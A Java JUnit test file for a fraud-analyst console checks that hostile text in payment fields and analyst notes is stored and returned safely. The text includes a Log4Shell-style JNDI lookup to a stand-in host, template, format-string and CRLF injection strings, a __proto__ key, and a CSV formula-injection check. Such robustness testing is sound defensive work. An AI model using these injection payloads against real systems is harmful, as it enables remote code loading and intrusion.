package io.vigil.console;

import static io.vigil.console.Alerts.alert;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.vigil.console.cases.CaseEvents;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a payment carries in its fields is text from the topic to the answer. */
class HostileTextTest {

  private static TestConsole console;
  private static int count;

  @BeforeAll
  static void start() throws Exception {
    console = new TestConsole(null);
  }

  @AfterAll
  static void stop() {
    console.close();
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        Hostile.MARKUP,
        Hostile.TURNED,
        Hostile.STATEMENT,
        Hostile.FORMULA,
        "\\'\";${jndi:ldap://evil.example/x}{{7*7}}%s%n\r\n",
        "\uD800 alone, and \uFFFF",
        "__proto__"
      })
  void staysText(String text) throws Exception {
    String id = "h" + ++count;
    console.feed().alert(Hostile.everywhere(alert(id).build(), text));
    TestConsole.Client lena = console.client("lena");
    JsonNode queue = lena.get("/api/queue");
    long caseId = queue.path("cases").get(0).path("case_id").asLong();
    for (JsonNode each : queue.path("cases")) {
      caseId = Math.max(caseId, each.path("case_id").asLong());
    }
    String path = "/api/cases/" + caseId;
    JsonNode detail = lena.get(path);
    JsonNode shown = detail.path("list").get(0);
    // As UTF-8 has no lone surrogates, and PostgreSQL no U+0000.
    String stored =
        new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8)
            .replace('\0', '\uFFFD');
    assertThat(shown.path("merchant").asText().replace('\0', '\uFFFD')).isEqualTo(stored);
    assertThat(shown.path("reasons").get(0).path("text").asText().replace('\0', '\uFFFD'))
        .isEqualTo(stored);
    for (String part :
        new String[] {
          "/timeline",
          "/links",
          "/similar",
          "/rows?alert=" + encoded(shown.path("alert_id").asText()) + "&reason=VELOCITY"
        }) {
      HttpResponse<String> answer = lena.send("GET", path + part, null);
      assertThat(answer.statusCode()).as(part + answer.body()).isEqualTo(200);
      assertThat(answer.headers().firstValue("Content-Type").orElse(""))
          .startsWith("application/json");
    }
    assertThat(
            lena.send(
                    "GET",
                    path + "/records/" + encoded(shown.path("transaction_id").asText()),
                    null)
                .statusCode())
        .isIn(200, 400);
    assertThat(lena.send("GET", "/api/queue?q=" + encoded(stored), null).statusCode())
        .isEqualTo(200);
    assertThat(lena.send("GET", "/api/queue?kind=" + encoded(stored), null).statusCode())
        .isEqualTo(200);

    // Also what analysts write.
    String verdict =
        CaseEvents.JSON.writeValueAsString(
            Map.of(
                "cases",
                new Object[] {
                  Map.of("case_id", caseId, "version", detail.path("version").asLong())
                },
                "verdict",
                "fraud",
                "scheme",
                "other",
                "actions",
                new String[] {"BLOCK"},
                "note",
                text));
    HttpResponse<String> decided = lena.send("POST", "/api/verdicts", verdict);
    assertThat(decided.statusCode()).as(decided.body()).isEqualTo(200);
    assertThat(lena.send("GET", path, null).statusCode()).isEqualTo(200);
    HttpResponse<String> csv = lena.send("GET", "/api/lead/decisions.csv", null);
    assertThat(csv.body()).contains("C-" + caseId + ",").doesNotContain("\"=");
    assertThat(lena.send("GET", "/api/lead", null).statusCode()).isEqualTo(200);
    assertThat(tables()).contains("alert", "case_event");
  }

  private static java.util.List<String> tables() {
    return console
        .database()
        .read(
            handle ->
                handle
                    .createQuery(
                        "select table_name from information_schema.tables"
                            + " where table_schema = 'public'")
                    .mapTo(String.class)
                    .list());
  }

  @Test
  void aNoteOfTenThousandCharactersIsKeptAsItIs() throws Exception {
    console.feed().alert(alert("long").build());
    TestConsole.Client ada = console.client("ada");
    long caseId = 0;
    for (JsonNode each : ada.get("/api/queue").path("cases")) {
      caseId = Math.max(caseId, each.path("case_id").asLong());
    }
    String note = (Hostile.MARKUP + " \u202E\u05D0 ").repeat(200).substring(0, 10_000);
    HttpResponse<String> answer =
        ada.send(
            "POST",
            "/api/cases/" + caseId + "/notes",
            CaseEvents.JSON.writeValueAsString(Map.of("text", note)));
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    assertThat(ada.send("GET", "/api/cases/" + caseId, null).body())
        .contains(CaseEvents.JSON.writeValueAsString(note));
  }
}
